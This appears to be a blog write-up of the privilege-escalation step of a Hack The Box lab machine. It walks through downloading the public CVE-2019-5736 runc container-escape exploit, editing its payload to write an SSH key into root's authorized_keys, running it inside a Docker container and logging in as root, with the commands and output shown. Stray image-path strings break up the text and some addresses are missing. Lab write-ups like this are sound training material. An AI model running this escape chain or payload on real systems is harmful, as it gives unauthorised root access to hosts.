Welcome to Ubuntu 18.04.5 LTS (GNU/Linux 4.15.0-135-genericx86_64)

  * Documentation:  https://help.ubuntu.com
  * Management:     https://landscape.canonical.com
  * Support:        https://ubuntu.com/advantage
   System information as of Fri Apr 23 20:43:26 UTC 2021

   System load:  0.0               Processes:              184
   Usage of /:   40.0% of 7.81GB   Users logged in:        0
   Memory usage: 17%               IP address for ens160:
   Swap usage:   0%                IP address for docker0:
61 packages can be updated.
0 updates are security updates.

Last login: Wed Feb 24 09:09:34 2021 from
[email protected]:~$

We the session! We can now read the user.txt flag and enter the next phase: Privilege escalation.

[email protected]:~$ cat user.txt

Privilege Escalation


As always, we start with checking the persmissions of this user account.

[email protected]:~$ sudo -l
Matching Defaults entries for noah on thenotebook
    env_reset, mail_badpass, secure_path=/usr/local/sbin\:/usr/local/bin\:/usr/sbin\:/usr/bin\:/sbin\:/bin\:/snap/binUser noah may run the following commands on thenotebook:
    (ALL) NOPASSWD: /usr/bin/docker exec -it webapp-dev01*

This user account has the permissions to enter a docker container with root privileges. After searching around on the web, how we can exploit this permission, I came across this GitHub page: https://github.com/Frichetten/CVE-2019-5736-PoC. CVE-2019-5736 is a vulnerability to break out a Docker container as root. The requirement is that you need to have root access to the container.


We need to download the exploit first to our machine.

~$ curl "https://raw.githubusercontent.com/Frichetten/CVE-2019-5736-PoC/master/main.go" -o main.go

We need to edit the payload in the main.go exploit. In our case, we want to add our public key to theauthorized_keys of the user account root, so that we can create an SSH session as root, without the need to enter a password. Let’s first create the key pair. We are using the ed25519 key pair, because of to the short length of the key, which is convenient.

~$ ssh-keygen -t ed25519 -f id_ed25519

Edit the payload and add our public key to it and let’s write this key to the authorized_keys for the user account root.

var payload = "#!/bin/bash \n echo'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIMUuGlJIom1f5TPlcPvW+02CD1bj38ap2SjYByYaqgSG [email protected]' > /root/.ssh/authorized_keys"

Now, we are ready to build the exploit with go.

~$ go build main.go

After building this exploit, we are ready to exploit this vulnerability. We have now a compiled file with the name main. We need to download this payload to the Dockerimage and execute this payload to rewrite /bin/sh.

[email protected]:~$ sudo /usr/bin/docker exec -it webapp-dev01 /bin/bash
[email protected]:/opt/webapp# curl -o main
[email protected]:/tmp# chmod +x ./main
[email protected]:/tmp# ./main
[+] Overwritten /bin/bash successfully

The /bin/bash is now rewritten with our payload. We are now entering the last step in exploiting this vulnerability. We need to create a second SSH session to the machine as noah, and from that account, we enter the docker container with /bin/sh to execute the payload and add our private key to the authorized_keys for the user account root.

[email protected]:~$ sudo /usr/bin/docker exec -it webapp-dev01 /bin/sh

Fom the first SSH session, we can now see that our payload got executed.

[email protected]:~$ sudo /usr/bin/docker exec -it webapp-dev01 /bin/bash
[email protected]:/opt/webapp# curl -o main
[email protected]:/tmp# chmod +x ./main
[email protected]:/tmp# ./main
[+] Overwritten /bin/bash successfully
[+] Found the PID: 68
[+] Successfully got the file handle
[+] Successfully got write handle &{0xc00004c8a0}

We only have to create an SSH session as root and read the root flag.

[email protected]:/home/kali/htb/machines/thenotebook# ssh [email protected] -i ./id_ed25519
Welcome to Ubuntu 18.04.5 LTS (GNU/Linux 4.15.0-135-generic x86_64)

 * Documentation:  https://help.ubuntu.com
 * Management:     https://landscape.canonical.com
 * Support:        https://ubuntu.com/advantage
 System information as of Mon Apr 26 21:08:07 UTC 2021
 System load:  0.16              Processes:              219Usage of /:   39.9% of 7.81GB   Users logged in:        1
 Memory usage: 12%               IP address for ens160:
 Swap usage:   0%                IP address for docker0:

61 packages can be updated.
0 updates are security updates.

Failed to connect to https://changelogs.ubuntu.com/meta-release-lts. Check your Internet connection or proxy settings

Last login: Wed Feb 24 09:00:54 2021
[email protected]:~# cat root.txt

We have owned TheNotebook! I have really enjoyed this machine! Did you like this write-up? Please consider spending a respect point, my HTB profile: https://app.hackthebox.eu/profile/224856.Happy hacking!


I'm a cybersecurity enthusiast! I'm working as an IT Security Engineer for a company in The Netherlands. I love writing scripts and doingresearch and pentesting. As a big fan of Hack The Box, I share my write-ups on this blog. I'm blogging because I like to summarize my thoughts and share them with you.

View all posts by T13nn3s →

Leave aReply

Your email address will not be published.